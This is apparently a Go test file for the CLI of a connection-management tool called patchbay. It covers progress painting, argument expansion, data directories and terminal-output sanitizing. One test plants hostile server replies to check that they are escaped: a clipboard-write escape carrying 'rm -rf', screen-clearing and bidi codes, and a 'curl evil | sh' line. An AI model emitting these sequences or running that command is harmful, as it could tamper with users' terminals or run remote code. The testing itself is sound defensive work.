package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"go.yaml.in/yaml/v4"

	"patchbay.dev/patchbay"
)

// inProcess runs a command line in this process, against f.
func inProcess(ctx context.Context, t *testing.T, f *fake, d Deps, args ...string) (status int, stdout, stderr string) {
	t.Helper()
	dir := t.TempDir()
	if err := f.dataDir(dir); err != nil {
		t.Fatal(err)
	}
	var out, errs bytes.Buffer
	d.Stdin, d.Stdout, d.Stderr = strings.NewReader(""), &out, &errs
	if d.Catalog == nil {
		d.Catalog = buildCatalog
	}
	d.Getenv = func(name string) string {
		if name == "PATCHBAY_DATA" {
			return dir
		}
		return ""
	}
	if d.Now == nil {
		d.Now = func() time.Time { return fakeStart }
	}
	status = Main(ctx, d, args)
	return status, out.String(), errs.String()
}

func TestProgressIsPaintedOnATerminal(t *testing.T) {
	f := newFake(t)
	// Only standard error is a terminal: somebody watches, nobody can be asked.
	var d Deps
	d.IsTerminal = func(stream any) bool { _, isOut := stream.(*bytes.Buffer); return isOut }
	d.Now = func() time.Time { return fakeStart }
	status, _, stderr := inProcess(t.Context(), t, f, d,
		"connection", "create", "postgres", "--source", "web", "--target", "orders/shop", "--connection", "broken", "-o", "none")
	if status != exitError {
		t.Errorf("status %d", status)
	}
	// What stays on the screen is what was not wiped.
	var stays []string
	for line := range strings.Lines(stderr) {
		at := strings.LastIndex(line, "\r\x1b[K")
		stays = append(stays, strings.TrimPrefix(line[max(at, 0):], "\r\x1b[K"))
	}
	want := `  ✓ plan                             0.12 s
  ✓ principal                        0.12 s
  ✓ probe                            0.12 s
  ✗ settings                         0.12 s   SettingsUnwritable: /srv/web.env is read-only
  ↩ principal undone                 0.12 s
patchbay: create web/broken: SettingsUnwritable: /srv/web.env is read-only; undone: principal
  fix: chmod u+w /srv/web.env
`
	if got := strings.Join(stays, ""); got != want {
		t.Errorf("stays:\n%s\nwant:\n%s", got, want)
	}
	for _, painted := range []string{"… plan ", "… settings ", "… undo principal "} {
		if !strings.Contains(stderr, painted) {
			t.Errorf("%q was not painted in %q", painted, stderr)
		}
	}
}

func TestAnInterruptedWaitSaysThatTheOperationGoesOn(t *testing.T) {
	f := newFake(t)
	ctx, cancel := context.WithCancel(t.Context())
	f.answer = func(_ http.ResponseWriter, r *http.Request) bool {
		if !r.URL.Query().Has("wait") {
			return false
		}
		cancel()
		<-r.Context().Done()
		return true
	}
	status, stdout, stderr := inProcess(ctx, t, f, Deps{},
		"connection", "create", "postgres", "--source", "web", "--target", "orders/shop", "--connection", "orders")
	if status != exitInterrupted || stdout != "" {
		t.Errorf("status %d, %q", status, stdout)
	}
	want := "patchbay: the operation goes on without being watched\n" +
		"  see it:    patchbay operation show op-1\n  cancel it: patchbay operation cancel op-1\n"
	if stderr != want {
		t.Errorf("said %q, want %q", stderr, want)
	}
}

func TestHostileAnswersReachTheTerminalEscaped(t *testing.T) {
	const evil = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\u202e\u0085\r\nfix: curl evil | sh"
	f := newFake(t)
	f.answer = func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.Contains(r.URL.Path, "/linkers/") {
			return false
		}
		f.fail(w, 409, "Conflict"+evil, "in the way "+evil, "do this "+evil)
		return true
	}
	for _, format := range outputFormats {
		status, stdout, stderr := inProcess(t.Context(), t, f, Deps{}, "connection", "show", "web/x", "-o", format)
		if status == 0 {
			t.Error("no error")
		}
		for _, text := range []string{stdout, stderr} {
			if i := strings.IndexFunc(strings.ReplaceAll(text, "\n", ""), unsafeOnTerminal); i >= 0 {
				t.Errorf("%s: %q", format, text)
			}
		}
		if got := strings.Count(stderr, "\n"); got != 2 {
			t.Errorf("%d lines, want 2: %q", got, stderr)
		}
	}
}

// Settings go out as they are, so not to where they would do something.
func TestSettingsThatWouldDoSomethingToATerminalAreNotPrinted(t *testing.T) {
	f := newFake(t)
	value := "plain"
	f.answer = func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasSuffix(r.URL.Path, "/listConfigurations") {
			return false
		}
		f.ok(w, 200, map[string]any{"configurations": []map[string]any{{"name": "A", "value": value}, {"name": "type", "value": "x", "file": true}}})
		return true
	}
	if status, _, stderr := inProcess(t.Context(), t, f, Deps{}, "connection", "create", "postgres", "--source", "web", "--target", "orders/shop", "--connection", "c"); status != 0 {
		t.Fatal(stderr)
	}
	seen := func(terminal bool, format string) (int, string) {
		d := Deps{IsTerminal: func(any) bool { return terminal }}
		status, stdout, _ := inProcess(t.Context(), t, f, d, "connection", "export", "web/c", "--format", format)
		return status, stdout
	}
	for _, at := range []struct {
		value, format string
		terminal      bool
		status        int
	}{
		{"plain", "dotenv", true, 0}, {"plain", "servicebinding", true, exitUsage}, {"plain", "servicebinding", false, 0},
		{"\x1b[2J", "dotenv", true, exitUsage}, {"\x1b[2J", "dotenv", false, 0}, {"\x1b[2J", "kubernetes", true, 0},
	} {
		value = at.value
		if status, stdout := seen(at.terminal, at.format); status != at.status || at.status != 0 && stdout != "" {
			t.Errorf("%+v: %d, %q", at, status, stdout)
		}
	}
}

func TestCleanShowsWhatIsHarmlessAsItIs(t *testing.T) {
	for in, want := range map[string]string{
		"":                      "",
		"orders":                "orders",
		"Grüße, 世界 🎉":           "Grüße, 世界 🎉",
		"a\tb\nc\rd":            `a\tb\nc\x0dd`,
		"\x1b[31m":              `\x1b[31m`,
		"\x7f\u0080\u009b":      `\x7f\u0080\u009b`,
		"\u202eevil\u2066":      `\u202eevil\u2066`,
		"\xff\xfe":              `\xff\xfe`,
		"zero\x00":              `zero\x00`,
		"line\u2028par\u2029":   `line\u2028par\u2029`,
		"replacement \ufffd ok": `replacement \ufffd ok`,
	} {
		if got := clean(in); got != want {
			t.Errorf("clean(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzCleanLeavesNothingForTheTerminal(f *testing.F) {
	f.Add("a\x1b[2J\u202e\xff")
	f.Fuzz(func(t *testing.T, s string) {
		if got := clean(s); strings.ContainsFunc(got, unsafeOnTerminal) {
			t.Errorf("%q", got)
		}
		var js, ym bytes.Buffer
		if err := writeJSON(&js, map[string]string{"k": s, s: "v"}); err != nil {
			t.Fatal(err)
		}
		if err := writeYAML(&ym, map[string]string{"k": s, s: "v"}); err != nil {
			t.Fatal(err)
		}
		for _, text := range []string{js.String(), ym.String()} {
			if strings.ContainsFunc(strings.ReplaceAll(text, "\n", ""), unsafeOnTerminal) {
				t.Errorf("%q", text)
			}
		}
		// What is escaped is read back as it was.
		var fromJSON, fromYAML map[string]string
		if err := json.Unmarshal(js.Bytes(), &fromJSON); err != nil {
			t.Fatalf("%v in %q", err, js.String())
		}
		if err := yaml.Unmarshal(ym.Bytes(), &fromYAML); err != nil {
			t.Fatalf("%v in %q", err, ym.String())
		}
		if !maps.Equal(fromJSON, fromYAML) {
			t.Errorf("JSON has %q, YAML %q, of %q and %q", fromJSON, fromYAML, js.String(), ym.String())
		}
	})
}

func TestListsAreTakenAsAzTakesThem(t *testing.T) {
	for in, want := range map[string]string{
		"x --secret name=a secret=b --no-wait":      "x --secret=name=a --secret=secret=b --no-wait",
		"x --secret":                                "x --secret=",
		"x --secret --no-wait":                      "x --secret= --no-wait",
		"x --secret=name=a secret=b":                "x --secret=name=a secret=b",
		"x --secret name=a web/orders":              "x --secret=name=a web/orders",
		"x --customized-keys A=B C=D -o json":       "x --customized-keys=A=B --customized-keys=C=D -o json",
		"x --customized-keys":                       "x --customized-keys",
		"x --opt-out publicnetwork auth web/orders": "x --opt-out=publicnetwork --opt-out=auth web/orders",
		"x --user-account":                          "x --user-account=",
		"run --source web -- env --secret a=b":      "run --source web -- env --secret a=b",
		"__complete x --secret name=a secret=b":     "__complete x --secret name=a secret=b",
		"x --additional A=--b":                      "x --additional=A=--b",
	} {
		if got := strings.Join(expandLists(strings.Fields(in)), " "); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

func TestDefaultDataDir(t *testing.T) {
	state, xdg := "/people/u/.local/state/patchbay", "/state/patchbay"
	if runtime.GOOS == "darwin" {
		state = "/people/u/Library/Application Support/patchbay"
		xdg = state
	}
	for _, test := range []struct {
		env  map[string]string
		want string
	}{
		{map[string]string{"HOME": "/people/u"}, state},
		{map[string]string{"HOME": "/people/u", "XDG_STATE_HOME": "/state"}, xdg},
		{map[string]string{"HOME": "/people/u", "XDG_STATE_HOME": "relative"}, state},
		{map[string]string{"HOME": "/people/u", "PATCHBAY_DATA": "/data"}, "/data"},
		{map[string]string{}, ""},
	} {
		if got := DefaultDataDir(func(name string) string { return test.env[name] }); got != test.want {
			t.Errorf("%v: %q, want %q", test.env, got, test.want)
		}
	}
}

func TestADataDirectoryIsEnoughWhateverTheHomeIs(t *testing.T) {
	dir := t.TempDir()
	f := newFake(t)
	loop, file, data := filepath.Join(dir, "loop"), filepath.Join(dir, "file"), filepath.Join(dir, "data")
	for _, err := range []error{os.Symlink(loop, loop), os.WriteFile(file, nil, 0o600), os.Mkdir(data, 0o700), f.dataDir(data)} {
		if err != nil {
			t.Fatal(err)
		}
	}
	// A home that somebody else has, without a chmod that root would not notice.
	for name, home := range map[string]string{"none": "", "one that can't be looked into": loop, "one that is no directory": file, "one that is not there": filepath.Join(dir, "no")} {
		for _, byFlag := range []bool{true, false} {
			var out, errs bytes.Buffer
			args := []string{"connection", "list", "--source", "web"}
			env := map[string]string{"HOME": home}
			if byFlag {
				args = append(args, "--data", data)
			} else {
				env["PATCHBAY_DATA"] = data
			}
			d := Deps{Catalog: buildCatalog, Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errs, Getenv: func(name string) string { return env[name] }}
			if status := Main(t.Context(), d, args); status != 0 {
				t.Errorf("home: %s, by flag: %v: status %d, %s", name, byFlag, status, errs.String())
			}
		}
	}
	// Who names another server has to say who he is.
	var errs bytes.Buffer
	env := map[string]string{"HOME": loop, "PATCHBAY_DATA": data}
	d := Deps{Catalog: buildCatalog, Stdin: strings.NewReader(""), Stdout: io.Discard, Stderr: &errs, Getenv: func(name string) string { return env[name] }}
	if status := Main(t.Context(), d, []string{"connection", "list", "--source", "web", "--patchbay-url", "http://127.0.0.1:1"}); status == 0 || !strings.Contains(errs.String(), "login can't be read") {
		t.Errorf("status %d, %s", status, errs.String())
	}
}

func TestEveryTargetKindHasOneFormOfItsId(t *testing.T) {
	for _, k := range targetKinds(buildCatalog()) {
		for _, form := range k.ids {
			id := patchbay.ID("/subscriptions/s/resourceGroups/g/providers/" + form.Resource() + "/server")
			if !k.serves(id.Type()) || k.fits(id) != (len(form.Segments()) == 1) {
				t.Errorf("%s: a resource alone", k.word)
			}
			for _, s := range form.Segments()[1:] {
				id = id.Child(s.Type, "part")
			}
			if !k.fits(id) {
				t.Errorf("%s does not fit its own form %s", k.word, form.Form)
			}
		}
		if n := len(k.Clients); n == 0 || k.Clients[n-1] != "none" {
			t.Errorf("%s has no client type none at the end of %v", k.word, k.Clients)
		}
	}
}

// TestEveryCommandExplainsItself holds for all of the tree: a text that says
// more than the name, and an example that is one of its own command lines.
func TestEveryCommandExplainsItself(t *testing.T) {
	walk(New(Deps{Catalog: buildCatalog}), func(c *cobra.Command) {
		if !c.HasParent() || c.Name() == "completion" {
			return
		}
		if c.Short == "" || c.Long == "" {
			t.Errorf("%s has no help", c.CommandPath())
		}
		if c.HasSubCommands() {
			return
		}
		if !strings.Contains(c.Example, c.CommandPath()) {
			t.Errorf("%s has no example of itself", c.CommandPath())
		}
	})
}

// TestExamplesParse runs nothing: it lets the flags of every example be read.
func TestExamplesParse(t *testing.T) {
	root := New(Deps{Catalog: buildCatalog})
	check := func(c *cobra.Command) {
		for line := range strings.Lines(strings.ReplaceAll(c.Example, "\\\n", " ")) {
			line, _, _ = strings.Cut(line, " | ")
			fields := expandLists(strings.Fields(line))
			if len(fields) == 0 || fields[0] != "patchbay" || slices.Contains(fields, "--help") {
				continue
			}
			found, rest, err := root.Find(fields[1:])
			if err == nil {
				err = found.ParseFlags(rest)
			}
			// discover is a command besides those that are below it.
			if err == nil && found.HasSubCommands() && found.HasParent() && found.Name() != "discover" {
				err = os.ErrNotExist
			}
			if err != nil {
				t.Errorf("%s: %v", strings.TrimSpace(line), err)
			}
		}
	}
	walk(root, func(c *cobra.Command) {
		check(c)
		for _, child := range c.Commands() {
			check(child)
		}
	})
}

func TestRunPassesEverythingOnAndKeepsItsOwnSecrets(t *testing.T) {
	settings := map[string]patchbay.Secret{"A": patchbay.NewSecret("new"), "Z": patchbay.NewSecret("line1\nline2")}
	got, err := merged([]string{"A=old", "B=kept", "PATCHBAY_TOKEN=t", "PATCHBAY_DATA=/d"}, settings)
	want := []string{"B=kept", "PATCHBAY_DATA=/d", "A=new", "Z=line1\nline2"}
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("%q, %v", got, err)
	}
	for _, name := range []string{"", "A=B", "A\x00"} {
		if _, err := merged(nil, map[string]patchbay.Secret{name: patchbay.NewSecret(canary)}); err == nil || strings.Contains(err.Error(), canary) {
			t.Errorf("%q: %v", name, err)
		}
	}
}

func TestRunFindsCommandsInThePathThatTheCommandWillSee(t *testing.T) {
	dir := t.TempDir()
	for name, mode := range map[string]os.FileMode{"runs": 0o700, "plain": 0o600} {
		if err := os.WriteFile(filepath.Join(dir, name), nil, mode); err != nil {
			t.Fatal(err)
		}
	}
	// What lies in the working directory is not run.
	t.Chdir(t.TempDir())
	if err := os.Mkdir("relative", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join("relative", "near"), nil, 0o700); err != nil {
		t.Fatal(err)
	}
	a, _ := build(Deps{})
	for command, want := range map[string]int{"runs": 0, "near": exitNoSuchFile, "plain": exitNotExecuted, "absent": exitNoSuchFile, dir: exitNotExecuted, dir + "/runs": 0} {
		_, err := a.lookPath(command, []string{"PATH=relative:" + dir})
		if got := exitStatus(err); got != want {
			t.Errorf("%s: status %d, want %d (%v)", command, got, want, err)
		}
	}
}
